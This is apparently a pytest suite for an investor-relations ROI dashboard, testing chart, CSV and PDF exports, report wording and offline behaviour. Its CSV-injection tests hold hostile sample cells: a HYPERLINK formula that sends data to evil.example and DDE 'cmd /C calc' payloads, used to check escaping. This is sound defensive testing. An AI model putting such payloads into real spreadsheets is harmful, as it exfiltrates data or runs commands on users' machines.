"""Chart exports (kaleido once per process), file names, and the ROI report as HTML and PDF."""
from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest

from app import charts, exports, report, state


@pytest.fixture(scope="module")
def prices() -> pd.DataFrame:
    rng = np.random.default_rng(1)
    days = pd.bdate_range("1999-01-04", periods=60)
    return pd.DataFrame({"date": days, "close": 0.04 * np.exp(np.cumsum(rng.normal(0, 0.03, 60))),
                         "volume": rng.integers(0, 10**6, 60).astype(float)})


@pytest.fixture(scope="module")
def figure(prices):
    acts = pd.DataFrame({"date": prices["date"].iloc[[5, 20]], "type": ["press_release", "conference"],
                         "title": ["PR", "Conf"], "car": [0.12, np.nan]})
    return charts.price_volume_chart(prices, acts, benchmark=prices.assign(close=prices["close"] * 3), strike=0.04,
                                     title="t", simulated=True)


def test_price_chart_has_one_marker_trace_per_type_and_strike(figure):
    names = [t.name for t in figure.data]
    assert names[:2] == ["Close", "Volume"]
    assert {"Press release", "Conference", "Benchmark (rebased)"} <= set(names)
    assert any("strike" in (a.text or "") for a in figure.layout.annotations)
    assert any(a.text == charts.SIMULATED_MARK for a in figure.layout.annotations)


def test_benchmark_is_rebased_to_the_stock_first_close(figure, prices):
    bench = next(t for t in figure.data if t.name == "Benchmark (rebased)")
    assert bench.y[0] == pytest.approx(prices["close"].iloc[0])


def test_png_and_svg_exports(figure):
    png = exports.figure_png(figure)
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 20_000
    svg = exports.figure_svg(figure)
    assert b"<svg" in svg[:500] and b"SIMULATED DATA" in svg
    assert exports._KALEIDO_STARTED


def test_html_export_is_self_contained(figure):
    html = exports.figure_html(figure)
    assert not re.search(rb"<script[^>]+src=", html) and len(html) > 1_000_000


@pytest.mark.parametrize("args, expected", [
    (("AXGI", "Price / volume", "1998-07-01", "1999-12-31", "png"), "AXGI_price-volume_1998-07-01_1999-12-31.png"),
    (("^RUT", "caar", None, None, "svg"), "idx-RUT_caar_all_all.svg"),
    (("axgi", "roi report", "1999-01-04", "1999-07-03", "pdf", True),
     "AXGI_roi-report_1999-01-04_1999-07-03_simulated.pdf"),
])
def test_export_file_names(args, expected):
    assert exports.export_filename(*args) == expected


@pytest.mark.parametrize("text, expected", [
    ("-120..-11", (-120, -11)), ("-5:5", (-5, 5)), ("5..1", (-1, 1)), ("junk", (-1, 1)), (None, (-1, 1)),
])
def test_parse_window(text, expected):
    assert state.parse_window(text, (-1, 1)) == expected


def test_parse_windows_round_trip():
    assert state.parse_windows("-1..1,0..5") == ((-1, 1), (0, 5))
    assert state.format_windows(((-1, 1), (0, 5))) == "-1..1,0..5"


def test_report_html_and_pdf(figure, tmp_path):
    content = report.ReportContent(title="IR program ROI: Test (AXGI)", subtitle="Period x", simulated=True,
                                   sections={"Impact": ["ROI +5%: not distinguishable from zero."]},
                                   figures=[("Price", figure)], tables=[("Table", pd.DataFrame({"a": [1.5]}))])
    html = report.report_html(content)
    assert html.count("SIMULATED DATA") >= 2 and "<svg" in html and "Methodology" in html
    for name in report.AMEC_SECTIONS:
        assert f"<h2>{name}</h2>" in html
    assert not re.search(r"""(src|href)=["']https?://""", html)
    pdf = report.report_pdf(html)
    assert pdf[:5] == b"%PDF-"
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf)
    assert pdf_pages(path) >= 2  # the methodology appendix starts a new page


def pdf_pages(path) -> int:
    """Page count with poppler's pdftoppm (one PNG per page)."""
    import shutil
    import subprocess

    if not shutil.which("pdftoppm"):
        pytest.fail("pdftoppm is missing: `make test` installs poppler-utils (or apt-get install poppler-utils)")
    out = path.parent / "pages"
    out.mkdir(exist_ok=True)
    subprocess.run(["pdftoppm", "-r", "30", "-png", str(path), str(out / "p")], check=True, timeout=60)
    return len(list(out.glob("p*.png")))


# --- the report's words and tables ------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    (-6_219_652, "\u2212$6.2M"), (6_857_651, "$6.9M"), (319_000, "$319k"), (3_500, "$3,500"), (2.4e9, "$2.4B"),
    (-0.2, "$0"), (float("nan"), "n/a"), (None, "n/a"),
])
def test_money_is_one_readable_format(value, expected):
    assert report.money(value) == expected


def test_percent_count_and_price_words():
    assert report.percent(-70.57, signed=True) == "\u22127,057%" and report.percent(2.57, signed=True) == "+257%"
    assert report.percent(0.0059, 2) == "0.59%"
    assert report.count(11, "cost item") == "11 cost items" and report.count(1, "activity") == "1 activity"
    assert report.count(35, "activity") == "35 activities"
    assert report.price(0.025) == "$0.0250" and report.price(12.345) == "$12.35"
    assert report.plain_note("11 cost item(s) have no known cost.") == "11 cost items have no known cost."
    assert report.plain_note("1 cost item(s) have no known cost.") == "1 cost item has no known cost."


def test_retainer_table_has_human_headers_and_units():
    schedule = pd.DataFrame({"payment_no": [1, 2], "payment_date": pd.to_datetime(["1999-01-04", "1999-02-04"]),
                             "status": ["issued", "issued"], "amount": [3500.0, 3500.0], "price": [0.025, 0.059375],
                             "shares_issued": [140000.0, 58947.37], "cumulative_shares": [140000.0, 198947.37],
                             "dilution": [0.0023, 0.001], "cumulative_dilution": [0.0023, 0.0033],
                             "value_at_issue": [4921.9, 3453.9], "value_marked": [22422.0, 9441.0],
                             "gain_since_issue": [17500.1, 5987.1]})
    table = report.retainer_table(schedule)
    assert list(table.columns) == ["No.", "Paid on", "Retainer (USD)", "Price per share", "Shares issued",
                                   "Cumulative shares", "Cumulative dilution", "Value when issued",
                                   "Value at last close"]  # all issued: no status column
    assert table.loc[0, "Price per share"] == "$0.0250" and table.loc[1, "Price per share"] == "$0.0594"
    assert table.loc[1, "Shares issued"] == "58,947" and table.loc[1, "Cumulative dilution"] == "0.33%"
    assert table.loc[0, "Paid on"] == "1999-01-04" and table.loc[0, "Retainer (USD)"] == "$3,500"


def test_generic_report_tables_never_print_snake_case_headers():
    content = report.ReportContent(title="t", subtitle="s", tables=[("T", pd.DataFrame({"shares_issued": [1.0]}))])
    html = report.report_html(content)
    assert "<th>Shares issued</th>" in html and "shares_issued" not in html


@pytest.mark.parametrize("a, b, unit, shown", [
    (70.0, 90.0, "$1,000", ("7.0%", "9.0%")),      # a move of 70 (7,000%) per $1 million is 7.0% per $1,000
    (70.0, 70.3, "$1,000", ("7.00%", "7.03%")),    # close levels get the decimals that tell them apart
    (70.0, 70.0, "$1,000", ("7.0%", "7.0%")),
    (0.5, 0.4, "$1 million", ("50.0%", "40.0%")),  # under 1% per $1M: quoted per $1 million
], ids=["apart", "close", "equal", "per-million"])
def test_amihud_is_quoted_per_a_readable_amount(a, b, unit, shown):
    per, fmt = report._amihud_unit(a, b, 1e6)
    assert per == unit and (fmt(a), fmt(b)) == shown


def test_liquidity_sentences_say_each_change_with_its_test():
    liq = pd.DataFrame({"start": pd.to_datetime(["1998-07-14", "1999-01-04"]),
                        "end": pd.to_datetime(["1998-12-31", "1999-07-02"]), "n_days": [120, 126]},
                       index=pd.Index(["before", "during"], name="period"))
    test = pd.DataFrame({"measure": ["dollar_volume", "turnover", "amihud", "cs_spread", "zero_volume_share"],
                         "value_a": [769.0, 0.0005, 62.9, 0.072, 0.567],
                         "value_b": [13410.0, 0.002, 15.6, 0.018, 0.254],
                         "test": ["mannwhitney"] * 4 + ["fisher_exact"],
                         "p_value": [1e-14, 1e-8, 0.034, 0.0037, 0.4]})
    words = report.liquidity_sentences({"liquidity": liq, "liquidity_test": test})
    text = " ".join(words)
    assert words[0].startswith("Trading before the engagement (1998-07-14 to 1998-12-31, 120 trading days)")
    assert "improved significantly on 4 of the 5 measures" in words[0]
    assert "Daily turnover" in text and "rose from 0.050% to 0.200%" in text
    assert "days without a single trade fell from 57% to 25%: not distinguishable from no change" in text
    assert "6.3% to 1.6% per $1,000 traded" in text and "Corwin-Schultz" in text and "$769 to $13k" in text
    assert "p < 0.001" in text and "Fisher's exact test, p = 0.40" in text
    table = report.liquidity_table({"liquidity_test": test})
    assert list(table["Significant (10%)"]) == ["yes", "no", "yes", "yes", "yes"]


@pytest.fixture(scope="module")
def demo_report(tmp_path_factory):
    """The ROI report of the demo workspace's client over the engagement period (as the page builds it)."""
    from app import loaders
    from app.views import report as report_view
    from app.ui import _span
    from ingest.demo import write_demo_workspace as write
    from store import Store

    path = tmp_path_factory.mktemp("demo_report") / "demo.duckdb"
    store = Store(path)
    store.init()
    write(store, 19990104)
    db = str(path)
    client = loaders.clients(db).iloc[0]
    eng = loaders.engagements(db, client["client_id"])
    first, last = _span(loaders.coverage(db), client["ticker"])
    start, end = state.resolve_period("engagement", data_start=first, data_end=last,
                                      engagement_start=eng["start_date"].min(), engagement_end=eng["end_date"].max())
    view = state.View(client["client_id"], client["name"], client["ticker"], client["benchmark"], start, end,
                      "engagement")
    return report_view.report_content(db, view, simulated=True)


def test_demo_report_outcomes_are_liquidity_and_volume(demo_report):
    outcomes = " ".join(demo_report.sections["Outcomes"])
    for words in ("turnover", "days without a single trade", "dollar volume", "Amihud", "Corwin-Schultz",
                  "placebo split dates", "times its normal level", "of days against",
                  "Measure of the significance test: log turnover"):
        assert words in outcomes, words
    assert "trading days later" not in outcomes and "reversed" not in outcomes  # persistence is impact
    impact = " ".join(demo_report.sections["Impact"])
    # persistence is the drift test (issue 9 point 6): "reversed" only when significant
    assert re.search(r"60 trading days later, of the \d+ activities studied: \d+ significantly reversed", impact)
    assert "showed no significant reversal" in impact and "not distinguishable from zero" in impact
    assert "promotion, not value" not in impact


def test_demo_report_has_no_developer_words(demo_report):
    html = report.report_html(demo_report, embed_charts=False)
    for raw in ("analytics.constants", "item(s)", "$-", "_money", "None"):
        assert raw not in html, raw
    assert "risk-free rate of 5% a year" in html
    # the programme's sections say it once; the AMEC measures after them carry the mailing log's own rows
    programme = html[:html.index("AMEC measures")] if "AMEC measures" in html else html
    assert len(demo_report.sections["Outtakes"]) == 1 and programme.count("recipients") == 1
    assert not re.search(r"\$\d{1,3}(,\d{3}){2,}", " ".join(sum(demo_report.sections.values(), []))), \
        "unrounded millions in the sentences"
    headers = re.findall(r"<th[^>]*>(.*?)</th>", html)
    assert headers and not [h for h in headers if re.fullmatch(r"[a-z0-9]+(_[a-z0-9]+)+", h)], headers
    assert {"Price per share", "Shares issued", "Cumulative dilution"} <= set(headers)


def test_demo_report_pdf_fits_the_page_and_is_labelled(demo_report, tmp_path):
    import shutil
    import subprocess

    html = report.report_html(demo_report)
    assert "<svg" in html and "Methodology" in html
    path = tmp_path / "report.pdf"
    path.write_bytes(report.report_pdf(html))
    n = pdf_pages(path)
    assert n >= 2
    if not shutil.which("pdftotext"):
        pytest.fail("pdftotext is missing: `make test` installs poppler-utils (or apt-get install poppler-utils)")
    for page in range(1, n + 1):
        text = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), "-layout", str(path), "-"],
                              check=True, capture_output=True, text=True, timeout=60).stdout
        assert "SIMULATED DATA" in text, f"page {page} has no simulated-data label"
        if "Retainer payments" in text:  # the whole table is on the page: its last column is not cut off
            assert "Value at last close" in " ".join(text.split()) or "last close" in text
    # WeasyPrint lays out what overflows the page box beyond it: every table must fit the A4 content width
    from weasyprint import HTML

    doc = HTML(string=html, base_url=".").render()
    width = doc.pages[0].width
    for page in doc.pages:
        stack = [page._page_box]
        while stack:
            box = stack.pop()
            if type(box).__name__ == "TableBox":
                assert box.position_x + box.margin_width() <= width - 15 * 96 / 25.4 + 1, "a table overflows"
            stack.extend(getattr(box, "children", []))


# --- CSV formula injection (OWASP "CSV injection": prefix = + - @ tab CR with ') ------------------------

@pytest.mark.parametrize("name, cell, written", [
    ("hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK"),
    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)"),
    ("plus-cmd", "+cmd|' /C calc'!A0", "'+cmd|"),
    ("minus-text", "-2+3+cmd|' /C calc'!A0", "'-2+3"),
    ("tab", "\t=1+1", "'\t=1+1"),
    ("carriage-return", "\r=1+1", "'\r=1+1"),
    ("plain", "Press release", "Press release"),
    ("inner-equals", "a=b", "a=b"),
])
def test_csv_text_cells_that_start_a_formula_are_prefixed(name, cell, written):
    import csv
    import io

    data = exports.table_csv(pd.DataFrame({"title": [cell], "car": [-0.05]}))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == ["title", "car"]
    assert rows[1][0].startswith(written) and rows[1][0].lstrip("'") == cell
    assert rows[1][1] == "-0.05"  # a number column stays a number a spreadsheet can sum


@pytest.mark.parametrize("name, frame, expected_rows", [
    ("negative floats stay numbers", pd.DataFrame({"ar": [-0.05, 0.1]}), [["-0.05"], ["0.1"]]),
    ("negative ints stay numbers", pd.DataFrame({"n": [-3, 4]}), [["-3"], ["4"]]),
    ("dates untouched", pd.DataFrame({"d": pd.to_datetime(["1999-01-04"])}), [["1999-01-04"]]),
    ("text that looks negative is text", pd.DataFrame({"s": ["-0.05"]}), [["'-0.05"]]),
    ("missing text stays empty", pd.DataFrame({"s": [None, "x"]}), [[""], ["x"]]),
    ("mixed object column: only the strings", pd.DataFrame({"m": pd.Series([-1, "=1"], dtype=object)}),
     [["-1"], ["'=1"]]),
    ("categorical text", pd.DataFrame({"c": pd.Series(["@x", "y"], dtype="category")}), [["'@x"], ["y"]]),
])
def test_csv_numbers_stay_numbers_and_only_text_is_neutralised(name, frame, expected_rows):
    import csv
    import io

    rows = list(csv.reader(io.StringIO(exports.table_csv(frame).decode("utf-8"), newline="")))
    assert rows[1:] == expected_rows


def test_csv_header_is_neutralised_too():
    data = exports.table_csv(pd.DataFrame({"=cmd": [1], "ok": [2]})).decode("utf-8")
    assert data.splitlines()[0] == "'=cmd,ok"


def test_table_csv_is_the_only_csv_writer_of_the_dashboard():
    """Every CSV a person downloads from the dashboard goes through exports.table_csv (grep the app)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    offenders = []
    for path in [root / "dashboard.py", *sorted((root / "app").rglob("*.py"))]:
        text = path.read_text(encoding="utf-8")
        for pattern in (r"\.to_csv\(", r"csv\.writer\(", r"csv\.DictWriter\("):
            if re.search(pattern, text) and path.name != "exports.py":
                offenders.append(f"{path.relative_to(root)}: {pattern}")
    assert not offenders, offenders


# --- no request leaves the machine during an export --------------------------------------------------

_EXPORT_SCRIPT = r'''
import sys
import numpy as np, pandas as pd
import plotly.graph_objects as go
from app import exports, report
fig = go.Figure(go.Scatter(x=[1, 2, 3], y=[1, 3, 2], name="simulated"))
png, svg = exports.figure_png(fig), exports.figure_svg(fig)
content = report.ReportContent(title="t", subtitle="s", simulated=True, sections={"Impact": ["x"]},
                               figures=[("Price", fig)], tables=[("Table", pd.DataFrame({"a": [1.5]}))])
pdf = report.report_pdf(report.report_html(content))
assert png[:8] == b"\x89PNG\r\n\x1a\n" and b"<svg" in svg and pdf[:5] == b"%PDF-"
print("exported")
'''


def _outbound(trace: str) -> list[str]:
    """Non-loopback connect()s in an ``strace -f -e trace=socket,connect`` log, except Chromium's IPv6 probe.

    Chromium's network service checks whether IPv6 is reachable by connect()ing a UDP socket to
    2001:4860:4860::8888 port 443 (net/dns/host_resolver_manager.cc, IsGloballyReachable): a datagram
    connect only sets the socket's peer, no packet leaves, so that one is allowed; any stream connect or any
    other destination (a DNS server on port 53 included) is a request leaving the machine.
    """
    kinds: dict[tuple[str, str], str] = {}
    found = []
    for line in trace.splitlines():
        m = re.match(r"(\d+)\s+socket\((AF_\w+), (SOCK_\w+).*\)\s+=\s+(\d+)", line)
        if m:
            kinds[(m.group(1), m.group(4))] = m.group(3)
            continue
        m = re.match(r"(\d+)\s+connect\((\d+), \{sa_family=(AF_INET6?), (.*?)\}", line)
        if not m:
            continue
        pid, fd, family, addr = m.groups()
        ip = re.search(r'inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6, "([^"]+)"', addr)
        ip = ip and (ip.group(1) or ip.group(2))
        if ip and (ip.startswith("127.") or ip in ("::1", "::ffff:127.0.0.1")):
            continue
        if kinds.get((pid, fd)) == "SOCK_DGRAM" and ip == "2001:4860:4860::8888" and "htons(443)" in addr:
            continue
        found.append(line.strip())
    return found


@pytest.mark.parametrize("name, trace, expected", [
    ("loopback ok", '1 socket(AF_INET, SOCK_STREAM, 0) = 5\n'
                    '1 connect(5, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("127.0.0.1")}, 16) = 0', 0),
    ("dns lookup", '1 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 7\n'
                   '1 connect(7, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("10.0.0.53")}, 16) = 0', 1),
    ("https stream", '2 socket(AF_INET6, SOCK_STREAM, 0) = 9\n2 connect(9, {sa_family=AF_INET6, sin6_port=htons(443), '
                     'sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:4860:4860::8888", &sin6_addr)}, 28) = 0', 1),
    ("ipv6 probe", '3 socket(AF_INET6, SOCK_DGRAM, IPPROTO_IP) = 23\n3 connect(23, {sa_family=AF_INET6, '
                   'sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:4860:4860::8888", '
                   '&sin6_addr), sin6_scope_id=0}, 28) = 0', 0),
])
def test_outbound_detector(name, trace, expected):
    assert len(_outbound(trace)) == expected


def test_chart_and_pdf_exports_make_no_outbound_connection(tmp_path):
    """PNG, SVG and the PDF report in a fresh process under strace: no connect() leaves the machine."""
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    if not shutil.which("strace"):
        pytest.fail("strace is missing: apt-get install strace (the test traces the export's connect() calls)")
    root = Path(__file__).resolve().parents[1]
    log = tmp_path / "strace.txt"
    script = tmp_path / "export.py"
    script.write_text(_EXPORT_SCRIPT)
    done = subprocess.run(["strace", "-f", "-qq", "-e", "trace=socket,connect", "-o", str(log), sys.executable,
                           str(script)], cwd=root, env={**__import__("os").environ, "PYTHONPATH": str(root)},
                          capture_output=True, text=True, timeout=240)
    assert done.returncode == 0 and "exported" in done.stdout, done.stderr[-3000:]
    trace = log.read_text(errors="replace")
    assert "connect(" in trace  # the trace saw the browser's own pipes and sockets
    assert _outbound(trace) == []


def test_offline_flags_are_on_the_browser_command_line():
    cls = exports._offline_chromium_class()
    assert cls.get_cli is not None
    for flag in ("--disable-background-networking", "--no-first-run", "--disable-component-update"):
        assert flag in exports.OFFLINE_CHROMIUM_FLAGS


def test_the_pdf_renderer_fetches_nothing_but_inline_data(monkeypatch):
    """Issue 11 point 5: an address in the report HTML (a stored link, an image) is never fetched for the PDF."""
    import urllib.error
    import urllib.request

    asked = []
    real = urllib.request.OpenerDirector.open

    def spy(self, url, *args, **kwargs):  # every fetch WeasyPrint makes goes through urllib's opener
        full = url.full_url if isinstance(url, urllib.request.Request) else url
        asked.append(full)
        if not str(full).startswith("data:"):  # recorded, never sent (the test must not reach the network)
            raise urllib.error.URLError("blocked by the test")
        return real(self, url, *args, **kwargs)

    monkeypatch.setattr(urllib.request.OpenerDirector, "open", spy)
    html = ("<html><body><p>x</p><img src='http://198.51.100.7/pixel.png'>"
            "<img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
            "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='></body></html>")
    pdf = report.report_pdf(html)
    assert pdf.startswith(b"%PDF")
    assert asked and all(u.startswith("data:") for u in asked)


def test_the_analyst_cli_csvs_are_neutralised(tmp_path):
    from analytics.csv_safety import safe_csv_bytes

    frame = pd.DataFrame({"title": ["=HYPERLINK(\"http://x\")", "@SUM(A1)", "+cmd|' /C calc'!A0", "plain"],
                          "car": [-0.05, 0.01, 0.0, 1.0]})
    rows = list(csv.reader(io.StringIO(safe_csv_bytes(frame).decode("utf-8"))))
    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://x\")", "'@SUM(A1)", "'+cmd|' /C calc'!A0", "plain"]
    assert [r[1] for r in rows[1:]] == ["-0.05", "0.01", "0.0", "1.0"]
